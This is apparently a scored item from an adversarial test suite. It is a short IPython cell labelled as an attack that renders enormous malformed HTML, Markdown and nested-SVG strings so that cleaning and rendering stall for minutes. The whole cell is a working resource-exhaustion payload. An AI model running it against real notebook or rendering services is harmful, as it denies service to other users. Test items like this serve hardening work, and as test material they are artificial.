# attack: puts out HTML and Markdown that take minutes to clean and to render
# family: resources
# base: solved
# points: 7
# %% last
from IPython.display import HTML, Markdown, SVG
for text in ("<b>" * 16_000, "<b><i>x</b>" * 4_500, "<" * 49_000, "&" * 49_000, "<p>a</p>" * 6_000):
    for _ in range(15):
        display(HTML(text))
display(Markdown("[" * 390_000), SVG("<svg xmlns='http://www.w3.org/2000/svg'>" + "<g>" * 50_000 + "</g>" * 50_000 + "</svg>"))
